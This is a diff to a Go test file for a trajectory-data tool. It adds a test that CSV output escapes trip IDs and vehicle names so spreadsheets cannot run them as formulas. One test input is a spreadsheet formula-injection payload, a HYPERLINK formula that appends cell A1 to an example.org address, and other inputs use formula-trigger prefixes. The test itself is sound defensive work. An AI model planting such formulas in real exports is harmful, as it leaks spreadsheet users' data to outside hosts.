@@ -22,6 +22,7 @@ import (
 	"retrace/engine/roadnet/roadnettest"
 	"retrace/engine/trajectory"
 	"retrace/engine/trajectory/read"
+	"retrace/internal/sheet"
 )
 
 const morning = 1704182400000 // 2024-01-02T08:00:00Z
@@ -281,10 +282,59 @@ func TestAnyIDSurvivesCSV(t *testing.T) {
 		if err != nil {
 			rt.Fatal(err)
 		}
-		if got, want := all[1][0], strings.ReplaceAll(id, "\r\n", "\n"); got != want {
+		if got, want := sheet.Text(all[1][0]), strings.ReplaceAll(id, "\r\n", "\n"); got != want {
 			rt.Fatalf("got %q, want %q", got, want)
 		}
 	})
+}
+
+// A spreadsheet takes no name for a formula, and the reader takes it as it was.
+func TestFormulasAreTexts(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "trips.csv")
+	w, err := CreateSamples(path, About{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := []string{`=HYPERLINK("http://example.org?"&A1,"x")`, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "''-", "plain", "'plain"}
+	for i, name := range names {
+		err := w.Write(&trajectory.Trajectory{ID: name, Vehicle: names[len(names)-1-i], Samples: []trajectory.Sample{{Time: morning, Lon: -8.6, Lat: 41.1}}})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	f, err := os.Open(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		if strings.ContainsAny(row[0][:1]+row[1][:1], "=+-@\t\r") {
+			t.Errorf("%q of %q runs in a spreadsheet", row[0], row[1])
+		}
+		if row[3] != "-8.6000000" {
+			t.Errorf("the longitude is %q", row[3])
+		}
+	}
+	i := 0
+	for got, err := range read.Files(context.Background(), []string{path}, nil, read.Options{}) {
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got.ID != names[i] || got.Vehicle != names[len(names)-1-i] {
+			t.Errorf("%q of %q came back as %q of %q", names[i], names[len(names)-1-i], got.ID, got.Vehicle)
+		}
+		i++
+	}
+	if i != len(names) {
+		t.Errorf("%d trips came back", i)
+	}
 }
 
 func BenchmarkWrite(b *testing.B) {
